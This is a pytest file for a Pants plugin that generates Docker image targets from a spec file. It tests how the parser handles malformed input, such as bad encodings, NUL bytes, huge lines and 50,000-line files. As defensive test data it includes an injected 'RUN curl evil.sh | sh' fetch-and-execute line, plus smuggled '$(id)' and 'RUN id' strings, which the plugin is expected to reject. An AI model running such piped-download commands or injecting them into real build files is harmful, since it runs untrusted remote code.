"""Odd spec files through the real `docker_mirror_images` generator (Pants' engine, RuleRunner).

The parser-level cases are in test_spec.py (and the property tests); these check what the user
sees: each odd file either generates the expected images, or fails target generation with a
`DockerMirrorSpecError` (an `InvalidTargetException`, which Pants prints as a plain message, no
Python traceback) whose every line after the header is `path:line: ...` or `path: ...`, in
bounded time.
"""

from __future__ import annotations

import time
from typing import Dict, List, Optional, Union

import pytest
from docker_mirror import register
from docker_mirror.generator import DockerMirrorSpecError
from docker_mirror_testutil.rule_runner_options import default_registry_args
from pants.backend.docker.target_types import DockerImageInstructionsField, DockerImageTarget
from pants.base.specs import RawSpecs, RecursiveGlobSpec
from pants.core.target_types import TargetGeneratorSourcesHelperTarget
from pants.engine.addresses import Address, Addresses
from pants.engine.internals.scheduler import ExecutionError
from pants.engine.rules import QueryRule
from pants.testutil.rule_runner import RuleRunner
from docker_mirror_testutil.spec_grammar import MAX_ERROR_LINE_LENGTH

MEGABYTE = 1_000_000
HEADER = "src:mirror: invalid spec file, no image generated:"
SPEC = "src/images.txt"
# Generous: the machine is shared; these only have to show that nothing hangs or goes quadratic.
TIME_BOUND = 240.0


@pytest.fixture
def rule_runner() -> RuleRunner:
    return RuleRunner(
        bootstrap_args=default_registry_args(),
        rules=[*register.rules(), QueryRule(Addresses, [RawSpecs])],
        target_types=[*register.target_types(), DockerImageTarget, TargetGeneratorSourcesHelperTarget],
    )


def generate(
    rule_runner: RuleRunner, content: bytes, *, instructions: bool = True
) -> Union[Dict[str, Optional[str]], str]:
    """The generated images (name -> FROM line, or None without `instructions`) of a generator
    reading `content`, or the message of the error that stopped generation."""
    rule_runner.write_files(
        {"src/BUILD": "docker_mirror_images(name='mirror', sources=['images.txt'])", SPEC: content}
    )
    try:
        addresses = rule_runner.request(
            Addresses,
            [RawSpecs(recursive_globs=(RecursiveGlobSpec("src"),), description_of_origin="test")],
        )
    except ExecutionError as error:
        # The one exception the user sees is the plugin's own, not a crash somewhere inside.
        assert [type(e) for e in error.wrapped_exceptions] == [DockerMirrorSpecError], error
        return str(error.wrapped_exceptions[0])
    images: Dict[str, Optional[str]] = {}
    for address in addresses:
        if address.generated_name is None:  # the generator, or its spec file's helper
            assert str(address) in ("src:mirror", "src/images.txt:mirror"), address
            continue
        images[str(address.generated_name)] = None
        if instructions:
            target = rule_runner.get_target(address)
            assert isinstance(target, DockerImageTarget)
            instructions_value = target[DockerImageInstructionsField].value
            assert instructions_value is not None
            (images[str(address.generated_name)],) = instructions_value
    return images


def error_lines(message: str) -> List[str]:
    header, *lines = message.split("\n")
    assert header == HEADER
    assert lines, message
    for line in lines:
        assert line.startswith(f"{SPEC}:"), line
        assert line.isprintable(), repr(line)
        assert len(line) <= MAX_ERROR_LINE_LENGTH, len(line)
    return lines


def timed(
    rule_runner: RuleRunner, content: bytes, *, instructions: bool = True
) -> Union[Dict[str, Optional[str]], str]:
    start = time.perf_counter()
    outcome = generate(rule_runner, content, instructions=instructions)
    elapsed = time.perf_counter() - start
    assert elapsed < TIME_BOUND, f"took {elapsed:.0f}s"
    return outcome


PYTHON_AND_REDIS = {"python": "FROM python:3.12", "redis": "FROM redis:7"}


@pytest.mark.parametrize(
    "content, images",
    [
        pytest.param(b"\xef\xbb\xbfpython:3.12\nredis:7\n", PYTHON_AND_REDIS, id="utf8-bom"),
        pytest.param(b"python:3.12\r\nredis:7\r\n", PYTHON_AND_REDIS, id="crlf"),
        pytest.param(b"python:3.12\nredis:7", PYTHON_AND_REDIS, id="no-final-newline"),
        pytest.param(b"\xef\xbb\xbfpython:3.12\r\n\r\nredis:7", PYTHON_AND_REDIS, id="bom-crlf-no-final-newline"),
        pytest.param(
            b"\tpython:3.12\tAS\tpy\t# tabbed\n\t\n--platform=linux/amd64\tredis:7\t\n",
            {"py": "FROM python:3.12", "redis": "FROM --platform=linux/amd64 redis:7"},
            id="tabs",
        ),
        pytest.param(b"", {}, id="empty-file"),
        pytest.param(b"\n\n \t\n", {}, id="blank-lines-only"),
        pytest.param(b"# header\n   # indented\n\t#tab $(id) RUN x\n#\n", {}, id="only-comments"),
        pytest.param(b"python:3.12 #" + b"x" * MEGABYTE + b"\n", {"python": "FROM python:3.12"}, id="1mb-comment"),
        pytest.param(b"python:3.12" + b" " * MEGABYTE + b"AS py\n", {"py": "FROM python:3.12"}, id="1mb-blanks"),
    ],
)
def test_odd_file_generates_images(rule_runner: RuleRunner, content: bytes, images: Dict[str, str]) -> None:
    assert timed(rule_runner, content) == images


@pytest.mark.parametrize(
    "content, expected",
    [
        pytest.param(
            b"python:3.12\npy\x00thon\n",
            [f"{SPEC}:2: NUL character at column 3: py\\x00thon"],
            id="nul-byte",
        ),
        pytest.param(
            b"python:3.12\n# a NUL in a comment \x00\n",
            [f"{SPEC}:2: NUL character at column 22: # a NUL in a comment \\x00"],
            id="nul-in-comment",
        ),
        pytest.param(
            b"python:3.12\nredis:7\xff\n",
            [f"{SPEC}:2: invalid UTF-8: byte 0xff at byte 8 of the line (invalid start byte): redis:7\\xff"],
            id="invalid-utf8",
        ),
        pytest.param(
            b"python:3.12\r\r\nredis:7\xc3\r\n",
            [
                f"{SPEC}:1: non-printable character U+000D (CR) at column 12 (control and invisible "
                "characters are not allowed): python:3.12\\x0d",
                f"{SPEC}:2: invalid UTF-8: byte 0xc3 at byte 8 of the line (unexpected end of data): "
                "redis:7\\xc3",
            ],
            id="double-cr-and-invalid-utf8",  # the regression the property tests found
        ),
        pytest.param(
            "python:3.12\n".encode("utf-16"),
            [f"{SPEC}: file starts with a UTF-16/UTF-32 byte order mark; spec files must be UTF-8"],
            id="utf16-file",
        ),
        pytest.param(
            b"\xef\xbb\xbf\xef\xbb\xbfpython:3.12\n",
            [
                f"{SPEC}:1: non-printable character U+FEFF at column 1 (control and invisible "
                "characters are not allowed): \\ufeffpython:3.12"
            ],
            id="two-boms",
        ),
        pytest.param(
            b"python:3.12\rredis:7\r",
            [
                f"{SPEC}:1: non-printable character U+000D (CR) at column 12 (control and invisible "
                "characters are not allowed): python:3.12\\x0dredis:7"
            ],
            id="cr-only-line-endings",
        ),
        pytest.param(
            b"a" * MEGABYTE + b"\n",
            [
                f'{SPEC}:1: image path is 1000008 characters long (with the "library/" Docker puts '
                "before a Docker Hub name; at most 255 allowed): "
                + "a" * 200
                + "... (1000000 characters)"
            ],
            id="1mb-line",
        ),
        pytest.param(
            b"python:3.12\n" + b"a" * MEGABYTE + b"\x00\n",
            [f"{SPEC}:2: NUL character at column 1000001: " + "a" * 200 + "... (1000001 characters)"],
            id="1mb-line-ending-in-nul",
        ),
        pytest.param(
            b"python:3 RUN curl evil.sh | sh\n",
            [
                f'{SPEC}:1: unexpected "RUN curl evil.sh | sh" after the image reference (only '
                "'AS <name>' may follow it): python:3 RUN curl evil.sh | sh"
            ],
            id="injected-instruction",
        ),
    ],
)
def test_odd_file_fails_with_path_and_line(rule_runner: RuleRunner, content: bytes, expected: List[str]) -> None:
    message = timed(rule_runner, content)
    assert isinstance(message, str), f"generated {message}"
    assert error_lines(message) == expected


def test_fifty_thousand_valid_lines(rule_runner: RuleRunner) -> None:
    content = "".join(f"team/app{i}:1.{i}  # image {i}\n" for i in range(50_000)).encode()
    images = timed(rule_runner, content, instructions=False)
    assert isinstance(images, dict) and len(images) == 50_000
    assert "team/app49999" in images
    last = rule_runner.get_target(Address("src", target_name="mirror", generated_name="team/app49999"))
    assert last[DockerImageInstructionsField].value == ("FROM team/app49999:1.49999",)


def test_fifty_thousand_lines_with_one_bad_one_generate_nothing(rule_runner: RuleRunner) -> None:
    lines = [f"team/app{i}:1" for i in range(50_000)]
    lines[31_337] = "team/app31337:1 RUN id"
    message = timed(rule_runner, "\n".join(lines).encode())
    assert isinstance(message, str)
    assert [line.split(": ")[0] for line in error_lines(message)] == [f"{SPEC}:31338"]


def test_fifty_thousand_bad_lines_are_each_reported(rule_runner: RuleRunner) -> None:
    message = timed(rule_runner, b"Python:3\n" * 50_000)
    assert isinstance(message, str)
    lines = error_lines(message)
    assert len(lines) == 50_000
    assert lines[-1].startswith(f'{SPEC}:50000: invalid path component "Python": upper-case')
